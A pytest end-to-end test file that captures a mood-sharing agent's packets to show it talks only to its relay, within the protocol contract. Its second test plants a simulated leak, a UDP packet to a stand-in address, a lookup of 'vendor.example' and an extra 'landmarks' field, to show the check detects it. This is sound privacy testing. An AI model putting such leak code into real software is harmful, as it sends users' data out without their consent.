"""The proof of privacy: every packet of an agent that shares, on a machine of its own whose only other is the relay."""

import asyncio
import contextlib
import json
import re
import signal
import sys
from collections.abc import AsyncIterator, Sequence
from pathlib import Path

import pytest

from tests.e2e.agent_program import Terminal, command, on_terminal, running
from tests.packets import Packet, Request, beyond, foreign, said, sent
from tests.raw import CLOSE, TEXT, Frame
from tests.support import wait_until
from tests.two_machines import RELAYS, MachineDouble, recorded, two_machines

pytestmark = pytest.mark.usefixtures("agent_files")

PORT = 8765
RELAY = RELAYS, PORT
URL = f"http://{RELAYS}:{PORT}"
PATIENCE_S = 90.0


@contextlib.asynccontextmanager
async def relay_on(machine: MachineDouble, folder: Path) -> AsyncIterator[str]:
    """A relay with the channel ``demo``, whose admin key this is."""
    options = ["--host", RELAYS, "--port", str(PORT), "--data", str(folder), "--min-viewers", "1", "--channel", "demo"]
    async with running(*machine.command(sys.executable, "-m", "moodcast", "relay", *options)) as process:
        assert process.stdout
        told = ""
        while "keys are shown only now" not in told:
            line = await asyncio.wait_for(process.stdout.readline(), PATIENCE_S)
            assert line, told
            told += line.decode()
        (key,) = re.findall(r"Admin key +(\S+)", told)
        yield key


ASK = """
import sys, urllib.request
method, url, key, body = sys.argv[1:]
headers = {"Authorization": f"Bearer {key}", "Content-Type": "application/json"}
urllib.request.urlopen(urllib.request.Request(url, body.encode(), headers, method=method))
"""


async def ask(machine: MachineDouble, method: str, path: str, key: str, body: str) -> None:
    """The streamer asks the relay for something of the channel, on the relay's machine."""
    url = f"{URL}/v1/channels/demo{path}"
    asking = machine.command(sys.executable, "-c", ASK, method, url, key, body)
    process = await asyncio.create_subprocess_exec(*asking)
    assert await process.wait() == 0


def labels(terminal: Terminal) -> int:
    """How many have been sent."""
    return max(map(int, re.findall(rb"sent (\d+) label", terminal.screen)), default=0)


async def stop(terminal: Terminal) -> None:
    """As Ctrl-C does."""
    terminal.process.send_signal(signal.SIGINT)
    await asyncio.wait_for(terminal.process.wait(), PATIENCE_S)


def conversation(captured: Sequence[Packet]) -> list[list[Request | Frame]]:
    """What the agent said on each connection."""
    return [list(said(stream)) for stream in sent(captured)]


def kinds(things: Sequence[Request | Frame]) -> set[str]:
    """Requests by method and last part of the path, messages by their type."""
    return {
        f"{one.method} {one.path.rpartition('/')[2]}"
        if isinstance(one, Request)
        else json.loads(one.payload)["type"]
        if one.opcode == TEXT
        else str(one.opcode)
        for one in things
    }


async def test_an_agent_that_shares_talks_to_its_relay_alone_and_in_messages_of_the_contract_alone(
    film: Path, tmp_path: Path
) -> None:
    """From the start to the question, the sharing, its pauses and its end."""
    with two_machines(tmp_path) as (viewers, relays):
        async with relay_on(relays, tmp_path / "relay") as key:
            with recorded(viewers, tmp_path / "agent.pcap") as captured:
                agent = viewers.command(*command(URL, film, "--loop", "--name", "Zoë", "--delay", "8"))
                async with on_terminal(*agent) as terminal:
                    await wait_until(lambda: terminal.shows("[y/N]"), PATIENCE_S)
                    terminal.type(b"y\n")
                    await wait_until(lambda: labels(terminal) and terminal.shows("away, no face"), PATIENCE_S)
                    terminal.type(b"f\n")
                    await wait_until(lambda: terminal.shows("Forgotten"), PATIENCE_S)
                    await ask(relays, "POST", "/countdown", key, '{"seconds": 3}')
                    await wait_until(lambda: terminal.shows("press Enter when the countdown"), PATIENCE_S)
                    terminal.type(b"\n")
                    # Before the zero the relay objects, which is as good an answer here.
                    await wait_until(lambda: terminal.shows("relay says") or terminal.shows("You see"), PATIENCE_S)
                    # Nearly 20 s: vendors' telemetry was seen to make its first call after 10 s.
                    await wait_until(lambda: labels(terminal) >= 4, PATIENCE_S)
                    await stop(terminal)
                    assert terminal.process.returncode == 0
    assert foreign(captured, RELAY) == []
    check, stay = conversation(captured)
    assert [wrong for one in (*check, *stay) if (wrong := beyond(one))] == []
    assert kinds(check) == {"POST tickets", "GET viewer", "hello", str(CLOSE)}
    assert kinds(stay) >= {"POST tickets", "GET viewer", "hello", "label", "away", "zero", str(CLOSE)}


TATTLING = """
import socket, sys
import moodcast
from agent import client
from relay import protocol

with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
    line.sendto(b"a face", ("192.0.2.1", 9))
try:
    socket.getaddrinfo("vendor.example", 443)
except OSError:
    pass
client.encode = lambda message: protocol.encode(message).replace(b'"confidence":', b'"landmarks":[1,2],"confidence":')
sys.exit(moodcast.main())
"""


async def test_an_agent_that_tells_more_would_be_noticed(film: Path, tmp_path: Path) -> None:
    """A packet, a question for a name and a field beyond the contract: the proof can fail."""
    with two_machines(tmp_path) as (viewers, relays):
        async with relay_on(relays, tmp_path / "relay"):
            with recorded(viewers, tmp_path / "agent.pcap") as captured:
                python, _, _, *arguments = command(URL, film, "--yes")
                async with on_terminal(*viewers.command(python, "-c", TATTLING, *arguments)) as terminal:
                    await wait_until(lambda: labels(terminal), PATIENCE_S)
                    await stop(terminal)
    told = foreign(captured, RELAY)
    assert any("udp to 192.0.2.1 port 9: b'a face'" in line for line in told)
    assert any(f"udp to {RELAYS} port 53" in line and "vendor" in line for line in told)
    wrong = {beyond(one) for things in conversation(captured) for one in things}
    assert "no fields of the contract: landmarks" in wrong
